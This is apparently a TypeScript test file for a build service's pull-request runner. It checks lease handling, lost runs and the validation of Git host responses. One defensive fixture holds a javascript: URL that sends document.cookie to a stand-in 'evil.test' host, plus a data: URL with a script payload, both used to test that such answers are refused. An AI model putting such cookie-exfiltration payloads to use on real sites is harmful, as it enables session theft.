// The open_pr runner's pass against hostile or awkward rows, on a real database (review of issue 19):
// - runs of projects no worker of this process serves do not fill the pass (50 of them ahead of
//   one it serves used to make every pass skip them all and wake itself again, forever);
// - a run whose lease PostgreSQL holds to the microsecond (migration 0050 wrote now()) is taken;
// - a run taken MAX_OPEN_PR_ATTEMPTS times and never ended is given up, not taken forever, and says so
//   in a task.action.update;
// - a try that outlives its lease and ends after a later try took the run does not end it twice;
// - a Git host answering a pull request with a javascript: URL or a number PostgreSQL cannot hold
//   is refused before anything is stored or shown as a link.
import pino from 'pino';
import t from 'tap';
import { randomUUID } from 'node:crypto';
import { ChangeJobs, type ChangeWorker } from '../../../services/builds/changeJobs.js';
import { HostApiError, type HostApi, type HostResponse } from '../../../services/gitHosts/hostApi.js';
import { MAX_OPEN_PR_ATTEMPTS, OpenPrRunner } from '../../../services/gitHosts/openPrRuns.js';
import { openOrUpdatePullRequest } from '../../../services/gitHosts/pullRequests.js';
import { createEvents, ensureDeliveryQueue, memoryEventBus, startQueue, stopQueue } from '../../../storage/index.js';
import { createRootSupervisor } from '../../../supervisors/index.js';
import { testDatabase } from '../../support/db.js';
import { steppedClock } from '../../support/clock.js';
import { eventually } from '../../support/eventually.js';
import { insertProject } from '../../support/modelRows.js';

const COMMIT = 'a'.repeat(40);

/** A host API the pass must never reach (the runs here end before any call). */
const unreachableApi = (): HostApi => {
  const refuse = () => Promise.reject(new Error('the host API was called'));
  return { installationToken: refuse, repositoryReadToken: refuse, repositoryWriteToken: refuse, botIdentity: refuse, call: refuse };
};

t.test('the pass takes only served runs, takes microsecond leases, gives up lost runs', { timeout: 60_000 }, async (t) => {
  const db = await testDatabase(t);
  const { sql } = db;
  const log = pino({ level: 'silent' });
  const boss = await startQueue(db.url, log, { maxConnections: 2 });
  t.teardown(() => stopQueue(boss, { timeoutMs: 2000 }));
  await ensureDeliveryQueue(boss);
  const bus = await memoryEventBus(log);
  const events = createEvents({ sql, bus, boss });
  const updates: { delivery_id: string; status: string; error?: string }[] = [];
  bus.subscribe((event) => {
    if (event.event === 'task.action.update') updates.push((JSON.parse(event.frame) as { content: { delivery_id: string; status: string } }).content);
  });

  const setUp = async (project: string, actions: number) => {
    const projectId = await insertProject(sql, 'acme', project);
    const [task] = await sql<{ id: string }[]>`insert into tasks (project_id, name) values (${projectId}, 'default') returning id`;
    const evaluationId = randomUUID();
    await sql`insert into evaluations (id, task_id, repository, wildcard, phase, trigger, branch, commit)
      values (${evaluationId}, ${task!.id}, 'file:///nonexistent', '*', 'completed', 'push', 'main', ${COMMIT})`;
    const actionIds: string[] = [];
    for (let i = 0; i < actions; i++) {
      const [a] = await sql<{ id: string }[]>`insert into task_actions (task_id, name, kind, command, branch)
        values (${task!.id}, ${`bump-${i}`}, 'open_pr', ${['true']}, 'kiln/bump') returning id`;
      actionIds.push(a!.id);
    }
    return { projectId, evaluationId, actionIds };
  };
  // project a: no worker here serves it; 50 runs due before any of b's
  const a = await setUp('a', 50);
  for (const actionId of a.actionIds) {
    await sql`insert into open_pr_runs (evaluation_id, task_action_id, status, next_attempt_at)
      values (${a.evaluationId}, ${actionId}, 'retrying', '2019-12-31T00:00:00Z')`;
  }
  const b = await setUp('b', 3);
  const [due] = await sql<{ id: string }[]>`insert into open_pr_runs (evaluation_id, task_action_id, status, next_attempt_at)
    values (${b.evaluationId}, ${b.actionIds[0]!}, 'retrying', '2020-01-02T00:00:00Z') returning id`;
  // a lease as migration 0050 writes it (now(): microseconds a Date does not hold), long over
  const [leased] = await sql<{ id: string }[]>`insert into open_pr_runs (evaluation_id, task_action_id, status, next_attempt_at)
    values (${b.evaluationId}, ${b.actionIds[1]!}, 'running', '2020-01-01T00:00:00.123456Z') returning id`;
  const [lost] = await sql<{ id: string }[]>`insert into open_pr_runs (evaluation_id, task_action_id, status, attempts, next_attempt_at)
    values (${b.evaluationId}, ${b.actionIds[2]!}, 'running', ${MAX_OPEN_PR_ATTEMPTS}, '2020-01-01T00:00:00Z') returning id`;

  const servingB: ChangeWorker = {
    open: false, projects: [b.projectId], link: { send: () => undefined, close: () => undefined },
    hello: { workerId: 'worker-b', capabilities: { eval: true } },
  };
  const supervisor = createRootSupervisor({ onEscalate: () => undefined });
  const clock = steppedClock(new Date());
  const runner = new OpenPrRunner({
    sql, bus, events, api: unreachableApi(), privateFetch: () => Promise.resolve(null), changeJobs: new ChangeJobs({ connected: () => [servingB] }),
    author: { name: 'kiln', email: 'kiln@example.test' }, frontendUrl: 'http://kiln.test', log, clock, supervisor,
  });
  t.teardown(() => runner.stop());
  await runner.passNow();

  const row = async (id: string) => (await sql<{ status: string; attempts: number; error: string | null }[]>`
    select status, attempts, error from open_pr_runs where id = ${id}`)[0]!;
  // taken and ended (the project is not linked to the app: a failure no retry mends)
  t.match(await row(due!.id), { status: 'failed', attempts: 1, error: /not linked/ }, 'the served run behind 50 unserved ones is taken');
  t.match(await row(leased!.id), { status: 'failed', attempts: 1, error: /not linked/ }, 'a microsecond lease that ended is taken');
  t.match(await row(lost!.id), { status: 'failed', attempts: MAX_OPEN_PR_ATTEMPTS, error: /given up after/ }, 'a run lost at its last try is given up');
  await eventually(() => updates.some((u) => u.delivery_id === lost!.id), { message: 'the lost run is told' });
  t.match(updates.filter((u) => u.delivery_id === lost!.id), [{ status: 'dead', error: /given up after/ }], 'and the giving up is told, once');
  const [untouched] = await sql<{ n: number }[]>`
    select count(*)::int as n from open_pr_runs r join task_actions k on k.id = r.task_action_id
    where k.id = any(${a.actionIds}::uuid[]) and r.status = 'retrying' and r.attempts = 0`;
  t.equal(untouched!.n, 50, 'runs no worker here serves are left to another process');

  // a try that outlives its lease: a second process takes the run again and ends it; the first try's
  // late end (a transient failure that would ask for a retry) must not end it a second time
  const c = await setUp('c', 1);
  const [slow] = await sql<{ id: string }[]>`insert into open_pr_runs (evaluation_id, task_action_id, status, next_attempt_at)
    values (${c.evaluationId}, ${c.actionIds[0]!}, 'retrying', ${clock.now()}) returning id`;
  let release = (): void => undefined;
  const stuck = new Promise<void>((resolve) => (release = resolve));
  const servingC: ChangeWorker = { ...servingB, projects: [c.projectId], hello: { workerId: 'worker-c', capabilities: { eval: true } } };
  const first = new OpenPrRunner({
    sql, bus, events, api: unreachableApi(), changeJobs: new ChangeJobs({ connected: () => [servingC] }),
    privateFetch: async () => {
      await stuck;
      throw new Error('the first try gave out late');
    },
    author: { name: 'kiln', email: 'kiln@example.test' }, frontendUrl: 'http://kiln.test', log, clock, supervisor: createRootSupervisor({ onEscalate: () => undefined }),
  });
  const firstPass = first.passNow();
  await eventually(() => row(slow!.id), { until: (r) => r.status === 'running' && r.attempts === 1, message: 'the first try takes the run' });
  clock.step(41 * 60_000);
  const second = new OpenPrRunner({
    sql, bus, events, api: unreachableApi(), privateFetch: () => Promise.resolve(null), changeJobs: new ChangeJobs({ connected: () => [servingC] }),
    author: { name: 'kiln', email: 'kiln@example.test' }, frontendUrl: 'http://kiln.test', log, clock, supervisor: createRootSupervisor({ onEscalate: () => undefined }),
  });
  await second.passNow();
  t.match(await row(slow!.id), { status: 'failed', attempts: 2, error: /not linked/ }, 'the second try took the run after the lease and ended it');
  release();
  await firstPass;
  t.match(await row(slow!.id), { status: 'failed', attempts: 2, error: /not linked/ }, "the first try's late end changes nothing");
  await eventually(() => updates.filter((u) => u.delivery_id === slow!.id).length, { message: "the second try's end is told" });
  t.equal(updates.filter((u) => u.delivery_id === slow!.id).length, 1, 'one end told, not two');
  await first.stop();
  await second.stop();
});

t.test('a pull request answer is refused unless its URL is http(s) and its number fits', async (t) => {
  const answering = (pullRequest: unknown): HostApi => ({
    ...unreachableApi(),
    call: (_installation: number, route: string): Promise<HostResponse> =>
      Promise.resolve(route.startsWith('GET ') ? { status: 200, headers: {}, data: [] } : { status: 201, headers: {}, data: pullRequest }),
  });
  const change = { installationId: 1, repository: 'acme/app', branch: 'kiln/bump', base: 'main', title: 't', body: 'b' };
  for (const [what, answer] of [
    ['a javascript: URL', { number: 7, html_url: 'javascript:fetch("//evil.test/"+document.cookie)' }],
    ['a data: URL', { number: 7, html_url: 'data:text/html,<script>alert(1)</script>' }],
    ['a URL longer than a row holds', { number: 7, html_url: `https://host.test/${'p'.repeat(2000)}` }],
    ['a number past PostgreSQL integer', { number: 2 ** 31, html_url: 'https://host.test/acme/app/pull/1' }],
  ] as const) {
    await t.rejects(openOrUpdatePullRequest(answering(answer), change), HostApiError, what);
  }
  t.match(await openOrUpdatePullRequest(answering({ number: 7, html_url: 'https://host.test/acme/app/pull/7' }), change),
    { number: 7, url: 'https://host.test/acme/app/pull/7', created: true }, 'an https URL passes');
});

t.test("a pull request another process opened between the look and the POST is updated, not a run's death", async (t) => {
  const pr = { number: 9, html_url: 'https://host.test/acme/app/pull/9' };
  const calls: string[] = [];
  let opened = false;
  const racing: HostApi = {
    ...unreachableApi(),
    call: (_installation: number, route: string): Promise<HostResponse> => {
      calls.push(route.split(' ')[0]!);
      if (route.startsWith('GET ')) return Promise.resolve({ status: 200, headers: {}, data: opened ? [pr] : [] });
      if (route.startsWith('POST ')) {
        opened = true; // the other process's POST won
        return Promise.reject(new HostApiError('Validation Failed: A pull request already exists for acme:kiln/bump.', 422, {}));
      }
      return Promise.resolve({ status: 200, headers: {}, data: pr });
    },
  };
  const change = { installationId: 1, repository: 'acme/app', branch: 'kiln/bump', base: 'main', title: 't', body: 'b' };
  t.match(await openOrUpdatePullRequest(racing, change), { number: 9, created: false }, 'the open one is updated');
  t.same(calls, ['GET', 'POST', 'GET', 'PATCH']);
  // a 422 for another reason (the base branch is gone): nothing open, the refusal stands
  opened = false;
  const refusing: HostApi = { ...racing, call: (i, route, params) => route.startsWith('POST ') ? Promise.reject(new HostApiError('Validation Failed: base', 422, {})) : racing.call(i, route, params) };
  await t.rejects(openOrUpdatePullRequest(refusing, change), HostApiError, 'another 422 is still a failure');
});
